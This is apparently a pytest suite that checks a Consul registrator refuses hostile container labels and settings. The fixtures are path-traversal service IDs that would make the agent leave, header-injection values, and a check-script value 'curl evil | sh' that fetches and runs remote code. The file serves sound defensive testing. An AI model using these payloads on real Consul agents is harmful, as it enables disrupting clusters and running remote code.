"""What a container may say, and what it gets: no request leads elsewhere, and the other containers go on.

Everything but the engine is real here: the rules, py-consul, HTTP, and an agent that routes as Consul does.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
import requests

from deployer.registrator.address import Uri
from deployer.registrator.agent import Agent, AgentRefusesError
from deployer.registrator.events import Look
from deployer.registrator.reconcile import Reconciler
from deployer.registrator.services import HASH
from tests.registrator.boxes import HOST, ID, box, found, one, options
from tests.registrator.routed import RoutedConsul, routed_consul
from tests.registrator.test_reconcile import Engine
from tests.waiting import GENEROUS

if TYPE_CHECKING:
    from collections.abc import Iterator

P80 = {"80/tcp": "8080"}
GOOD, EVIL = "a" * 64, "b" * 64
GOOD_ID = "slave:honest:80"


class World:
    def __init__(self, consul: RoutedConsul, *argv: str) -> None:
        self.consul, self.engine = consul, Engine()
        self.said: list[str] = []
        self.agent = Agent(Uri("consul", "127.0.0.1", consul.server_port), {}, 1)
        self.state = Reconciler(options(*argv), self.agent, self.said.append, lambda _: None)
        self.state.engine, self.state.host = self.engine, HOST  # type: ignore[assignment]  # a fake

    def look(self, id_: str, told: Any) -> None:
        self.engine.boxes[id_] = told
        self.state.do(Look(id_))

    def start(self) -> None:
        """As the program does when it starts: what is registered is read, and everything that is named is looked at."""
        self.state.ledger.begin()
        self.state.ledger.load(self.agent.snapshot(HOST.engine))
        for owner in sorted({*self.engine.boxes, *self.state.ledger.owners()}):
            self.state.do(Look(owner))


@pytest.fixture
def world() -> Iterator[World]:
    with routed_consul() as consul:
        made = World(consul)
        yield made
        made.agent.close()


LEADS_ELSEWHERE = [
    "../../leave",  # the issue's own: made the agent leave
    "../../../v1/agent/leave",  # the issue's own: stayed for ever
    "..%2F..%2Fleave",
    "./../../leave",
    "web/../../../leave",
    "..",
    ".",
    "/lead",
    "a//b",
    "http://x/y",
    "leave?x#y",
    "a\nb",
    "\u202etxt",
    "é",
    "-x",
    "x" * 256,
]


@pytest.mark.parametrize("evil", LEADS_ELSEWHERE)
@pytest.mark.parametrize("label", ["SERVICE_ID", "SERVICE_80_ID"])
def test_an_id_that_leads_elsewhere_is_refused_and_the_others_go_on(world: World, evil: str, label: str) -> None:
    world.look(EVIL, box(P80, labels={label: evil}, id_=EVIL, name="evil"))
    world.look(GOOD, box(P80, id_=GOOD, name="honest"))
    assert {*world.consul.services} == {GOOD_ID}
    (said,) = (line for line in world.said if line.startswith("ignored"))
    assert said.startswith(f"ignored: {EVIL[:12]} evil: port 80 not registered: {label} is ")
    assert said.isprintable()
    for id_ in (EVIL, GOOD):
        world.look(id_, None)
    assert world.consul.services == {}
    assert not world.consul.left


@pytest.mark.parametrize("evil", LEADS_ELSEWHERE)
def test_what_was_registered_under_such_an_id_before_is_taken_out(world: World, evil: str) -> None:
    """By an earlier version, with its mark; its container may be there still, or gone."""
    for owner in (EVIL, "c" * 64):
        world.consul.services[evil] = {
            "ID": evil, "Service": "web", "Port": 8080, "Checks": [],
            "Meta": {"registrator-engine": HOST.engine, "registrator-container": owner, HASH: "h"},
        }  # fmt: skip
        world.engine.boxes[EVIL] = box(P80, labels={"SERVICE_ID": evil}, id_=EVIL)
        world.engine.boxes[GOOD] = box(P80, id_=GOOD, name="honest")
        world.start()
        world.consul.reap()
        assert {*world.consul.services} == {GOOD_ID}
        assert not world.consul.left
        asked = [line.split("?")[0].split(" ")[1] for line in world.consul.asked]
        assert all(path.count("/") == 4 + ("deregister" in path) for path in asked if "/agent/service/" in path), asked


def test_an_unquoted_request_would_have_made_it_leave(world: World) -> None:
    """The fake has teeth: requests removes the dots itself, as it did for py-consul's path."""
    place = f"http://127.0.0.1:{world.consul.server_port}"
    requests.put(f"{place}/v1/agent/service/deregister/../../leave", timeout=GENEROUS)
    assert world.consul.asked == ["PUT /v1/agent/leave"]
    assert world.consul.left


def test_quoting_alone_would_have_left_it_there(world: World) -> None:
    world.consul.services["../../leave"] = {"ID": "../../leave"}
    place = f"http://127.0.0.1:{world.consul.server_port}"
    answer = requests.put(
        f"{place}/v1/agent/service/deregister/..%2F..%2Fleave", timeout=GENEROUS, allow_redirects=False
    )
    assert (answer.status_code, answer.headers["Location"]) == (301, "/v1/agent/leave")
    assert "../../leave" in world.consul.services


def test_no_call_reaches_what_the_registrator_does_not_need(world: World) -> None:
    api: Any = world.agent._api
    calls: list[tuple[Any, tuple[Any, ...]]] = [
        (api.agent.service.maintenance, ("web", True)),
        (api.agent.force_leave, ("m1",)),
        (api.kv.put, ("a", "b")),
        (api.agent.service.deregister, ("a/../../../leave",)),
    ]
    for call, args in calls:
        with pytest.raises(AgentRefusesError, match="no path that is asked for"), world.agent._errors():
            call(*args)
    assert world.consul.asked == []


@pytest.mark.parametrize(
    ("told", "says"),
    [
        (box(P80, {"SERVICE_NAME": "consul"}), "SERVICE_NAME is 'consul', which is Consul's own or deployer's"),
        (box(P80, {"SERVICE_80_NAME": "Consul"}), "SERVICE_80_NAME is 'Consul', which is Consul's own or deployer's"),
        (box(P80, {"SERVICE_ID": "consul"}), "SERVICE_ID is 'consul', which is Consul's own or deployer's"),
        (box(P80, image="hashicorp/consul:1.20"), "its name is 'consul', which is Consul's own or deployer's"),
        (box(P80, {"SERVICE_NAME": "deployer-consul"}), "SERVICE_NAME is 'deployer-consul', which is Consul's own or deployer's"),
        (box(P80, {"SERVICE_NAME": "*"}), "SERVICE_NAME is '*'; it has letters"),
        (box(P80, {"SERVICE_NAME": "../leave"}), "SERVICE_NAME is '../leave'; it has letters"),
        (box(P80, {"SERVICE_NAME": "x" * 300}), "SERVICE_NAME is 'xxx"),
        (box(P80, {"SERVICE_TAGS": "a\nserver evil"}), r"SERVICE_TAGS is 'a\nserver evil', with a character that is no text"),
        (box(P80, {"SERVICE_TAGS": "x" * 20_000}), "its tags have more than 16384 characters"),
        (box(P80, name="../../leave"), "its id is 'slave:../../leave:80'; it has letters"),
        (box({"80/tcp": ["evil/x:8080"]}), "its address is 'evil/x', neither an IP address nor a host's name"),
        (box({"80/tcp": ["a@b:8080"]}), "its address is 'a@b', neither an IP address nor a host's name"),
    ],
)  # fmt: skip
def test_what_is_refused_is_said_with_its_label(told: dict[str, Any], says: str) -> None:
    made = found(told)
    assert made.services == ()
    assert made.notes[0].startswith(f"port 80 not registered: {says}")
    assert all(note.isprintable() for note in made.notes)


def test_a_name_that_only_begins_like_consuls_is_honest() -> None:
    assert [made.name for made in found(box({"80/tcp": "1", "443/tcp": "2"}, {"SERVICE_NAME": "consul"})).services] == [
        "consul-80", "consul-443",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("env", "says"),
    [
        ({"CHECK_SCRIPT": "curl evil | sh"}, "CHECK_SCRIPT has Consul's agent run a program on its machine, which -script-checks allows"),
        ({"80_CHECK_SCRIPT": "x"}, "CHECK_SCRIPT has Consul's agent run a program on its machine, which -script-checks allows"),
        ({"CHECK_CMD": "/x"}, "CHECK_CMD has Consul's agent run a program on its machine, which -script-checks allows"),
        ({"CHECK_HTTP": "/", "CHECK_HTTP_METHOD": "PUT"}, "CHECK_HTTP_METHOD is 'PUT'; a check may only read: GET, HEAD, OPTIONS"),
        ({"CHECK_HTTPS": "/", "CHECK_HTTPS_METHOD": "delete"}, "CHECK_HTTPS_METHOD is 'delete'; a check may only read: GET, HEAD, OPTIONS"),
        ({"CHECK_HTTP": "/a\r\nX: y"}, r"CHECK_HTTP is '/a\r\nX: y', no path"),
        ({"CHECK_HTTP": "/" + "x" * 3000}, "CHECK_HTTP is '/xxx"),
        ({"CHECK_TTL": "9" * 40 + "s"}, "CHECK_TTL is '999"),
    ],
)  # fmt: skip
def test_what_a_container_may_not_have_the_agent_do(env: dict[str, str], says: str) -> None:
    made = found(box(P80, {f"SERVICE_{key}": value for key, value in env.items()}))
    assert made.services == ()
    assert made.notes[0].startswith(f"port 80 not registered: {says}")


@pytest.mark.parametrize(
    "path", ["//evil/", "@evil/", ":1@evil", "http://evil/", "\\evil", "/../../v1/agent/leave", "?x", "#x", ""]
)
def test_a_check_asks_the_services_own_place_whatever_its_path(path: str) -> None:
    check = one(box(P80, {"SERVICE_CHECK_HTTP": path})).check
    assert (check["HTTP"] if check else "http://203.0.113.11:8080/").startswith("http://203.0.113.11:8080/")


def test_marks_are_ours_alone() -> None:
    """A container cannot make its entry another's, nor another task's."""
    env = {
        f"SERVICE_{key}": "evil"
        for key in ("REGISTRATOR-ENGINE", "REGISTRATOR-CONTAINER", "REGISTRATOR-HASH", "SWARM-NODE", "CONSUL-X")
    }
    labels = {"com.docker.swarm.task.id": "x\ny", "com.docker.swarm.service.name": "x" * 600}
    made = one(box(P80, {**env, "SERVICE_REGION": "eu", "SERVICE_NOTE": "a\nb"}, labels))
    assert made.meta == {
        "region": "eu", "registrator-engine": HOST.engine, "registrator-container": ID, "swarm-node": HOST.name,
    }  # fmt: skip


def test_an_entry_that_somebody_made_is_not_taken_by_naming_it(world: World) -> None:
    world.consul.services["vault-1"] = {"ID": "vault-1", "Service": "vault", "Port": 8200, "Meta": None, "Checks": []}
    world.engine.boxes[EVIL] = box(P80, {"SERVICE_ID": "vault-1", "SERVICE_NAME": "vault"}, id_=EVIL, name="evil")
    world.start()
    assert world.consul.services["vault-1"]["Port"] == 8200
    assert "evil: the id vault-1 is taken by a service vault that is not ours" in world.said


@pytest.mark.parametrize("owner", ["../../x", "", "x", "task:../../x", "a\nb"])
def test_an_entry_with_our_mark_and_an_owner_that_is_none_goes(world: World, owner: str) -> None:
    meta = {"registrator-engine": HOST.engine, "registrator-container": owner, HASH: "h"}
    world.consul.services["ghost"] = {"ID": "ghost", "Service": "web", "Meta": meta, "Checks": []}
    world.state.mesh = {}
    world.start()
    assert ("ghost" in world.consul.services) is (not owner), "an empty mark is no mark"


@pytest.mark.parametrize(
    ("ports", "env"),
    [
        ({f"{n}/tcp": str(n) for n in range(1, 3001)}, {}),
        ({f"{n}/tcp": None for n in range(1, 3001)}, {}),
        ({"80/tcp": [f"10.0.{n // 256}.{n % 256}:{n}" for n in range(1, 3001)]}, {}),
        (P80, {f"SERVICE_X{n}": "v" for n in range(3000)}),
        (P80, {"SERVICE_X": "v" * 100_000}),
        (P80, {f"SERVICE_CHECK_X{n}": "v" for n in range(900)}),
        (P80, {f"SERVICE_{n}_X": "v" for n in range(900)}),
    ],
)
def test_nothing_of_a_container_is_without_a_bound(ports: dict[str, Any], env: dict[str, str]) -> None:
    made = found(box(ports, env))
    assert len(made.services) <= 1024
    assert len(made.notes) <= 51
    assert all(len(note) < 300 for note in made.notes)


def test_work_grows_with_what_a_container_says_and_no_faster() -> None:
    """Counted, not timed: how often a setting is looked at, per port."""

    class Counting(dict[str, str]):
        looked = 0

        def items(self) -> Any:
            Counting.looked += 1
            return super().items()

    told = box({f"{n}/tcp": str(n) for n in range(1, 101)})
    told["Config"]["Labels"] = Counting({"SERVICE_X": "v"})
    assert len(found(told).services) == 100
    assert Counting.looked == 1, "labels are read once for all ports"
